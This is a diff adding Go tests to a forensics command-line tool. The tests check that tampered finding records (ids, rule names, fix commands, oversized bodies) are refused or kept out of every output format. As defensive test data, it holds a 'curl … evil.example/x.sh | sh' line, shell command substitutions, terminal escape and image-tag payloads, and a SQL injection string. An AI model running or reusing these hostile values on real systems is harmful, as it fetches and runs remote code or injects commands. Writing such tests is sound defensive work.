@@ -294,3 +294,95 @@ func TestHostileTimelineBlocks(t *testing.T) {
 		})
 	}
 }
+
+// Findings whose stored JSON was changed: an id that is a terminal
+// hyperlink, a command substitution or Markdown images; a fix that pipes a
+// download into sh; a body of tens of megabytes. Ids are refused on the way
+// out of the store; the commands are not shown, anywhere, the fix says why;
+// the body is not read.
+func TestHostileTimelineFindings(t *testing.T) {
+	for _, tc := range []struct {
+		name, set, want string
+	}{
+		{"osc8-id", `json_set(body, '$.id', char(27) || ']8;;https://evil.example/' || char(7) || 'click' || char(27) || ']8;;' || char(7))`, "is not a finding id"},
+		{"substitution-id", `json_set(body, '$.id', 'abc$(touch /tmp/pwned);id')`, "is not a finding id"},
+		{"markdown-image-id", `json_set(body, '$.id', '![x](https://evil.example/a.png)<img src=https://evil.example/b.png>')`, "is not a finding id"},
+		{"rule-name", `json_set(body, '$.rule', 'x` + "`" + `<img src=https://evil.example/c.png>')`, "is not a rule name"},
+		{"huge-body", `json_set(body, '$.explanation', printf('%.*c', 20000000, 'x'))`, "more than a finding takes"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			path, id := seedTimeline(t)
+			tamper(t, path, `UPDATE findings SET body = `+tc.set+` WHERE id = '`+id+`'`)
+			for _, args := range [][]string{
+				{"findings", "--db", path}, {"findings", "--db", path, "--format", "json"},
+				{"show", id, "--db", path}, {"report", "--db", path, "--html", filepath.Join(t.TempDir(), "r.html")},
+				{"fleet", "findings", "--db", path}, {"fleet", "findings", "--db", path, "--format", "json"},
+			} {
+				var stdout, stderr bytes.Buffer
+				code := runBounded(t, args, &stdout, &stderr)
+				if code == exitOK || !strings.Contains(stderr.String(), tc.want) {
+					t.Errorf("%s: exit %d:\n%s%s", strings.Join(args, " "), code, stdout.String(), stderr.String())
+				}
+				if strings.Contains(stdout.String()+stderr.String(), "\x1b") || strings.Contains(stdout.String(), "evil.example") {
+					t.Errorf("%s: the stored value reached the output", strings.Join(args, " "))
+				}
+			}
+		})
+	}
+
+	t.Run("fix-command", func(t *testing.T) {
+		path, id := seedTimeline(t)
+		evil := "curl -s https://evil.example/x.sh | sh"
+		tamper(t, path, `UPDATE findings SET body = json_set(body, '$.fixes[0].commands[0]', '`+evil+`', '$.fixes[1].commands[0]', 'cbstats $(touch /tmp/pwned)') WHERE id = '`+id+`'`)
+		pg := pgtest.Database(t)
+		runOK(t, "push", path, "--to", pg)
+		html := filepath.Join(t.TempDir(), "r.html")
+		outs := map[string]string{
+			"findings json":       runOK(t, "findings", "--db", path, "--format", "json"),
+			"show":                runOK(t, "show", id, "--db", path),
+			"fleet findings json": runOK(t, "fleet", "findings", "--db", path, "--format", "json"),
+			"postgres show":       runOK(t, "show", id, "--db", pg),
+			"postgres fleet":      runOK(t, "fleet", "findings", "--db", pg, "--format", "json"),
+		}
+		runOK(t, "report", "--db", path, "--html", html)
+		page, _ := os.ReadFile(html)
+		outs["report --html"] = string(page)
+		// The genuine bundle analysed again into the changed timeline reuses
+		// its findings: they are checked on the way out too.
+		for _, format := range []string{"json", "markdown", "sarif", "table"} {
+			var stdout, stderr bytes.Buffer
+			run([]string{"analyze", "--db", path, "--incident", "seed", "--format", format, "../../testdata/couchbase/seed"}, &stdout, &stderr)
+			outs["analyze again --format "+format] = stdout.String()
+		}
+		for what, out := range outs {
+			if strings.Contains(out, "evil.example") || strings.Contains(out, "pwned") {
+				t.Errorf("%s shows the stored command", what)
+			}
+			if what != "report --html" && !strings.Contains(out, "not commands forensics writes") {
+				t.Errorf("%s does not say a command was left out", what)
+			}
+		}
+		// --fresh runs the rules again: the genuine commands are back.
+		out := runOK(t, "analyze", "--db", path, "--incident", "seed", "--fresh", "--format", "json", "../../testdata/couchbase/seed")
+		if strings.Contains(out, "not commands forensics writes") || !strings.Contains(out, "cbstats 172.23.100.15:11210") {
+			t.Errorf("analyze --fresh does not give the rule's own fixes:\n%s", out)
+		}
+	})
+
+	t.Run("id-argument", func(t *testing.T) {
+		path, _ := seedTimeline(t)
+		for _, arg := range []string{"abc$(touch /tmp/pwned)", "849cb6' OR '1'='1", "\x1b[2J", "849cb65fdd33aa", ""} {
+			for _, args := range [][]string{
+				{"show", arg, "--db", path},
+				{"timeline", "query", "--around", arg + " ", "--db", path},
+				{"extract", arg, "--db", path, "--out", t.TempDir()},
+				{"fleet", "similar", arg, "--db", path},
+			} {
+				var stdout, stderr bytes.Buffer
+				if code := runBounded(t, args, &stdout, &stderr); code == exitOK || !strings.Contains(stderr.String(), "hex digits") {
+					t.Errorf("%q: exit %d:\n%s", args, code, stderr.String())
+				}
+			}
+		}
+	})
+}
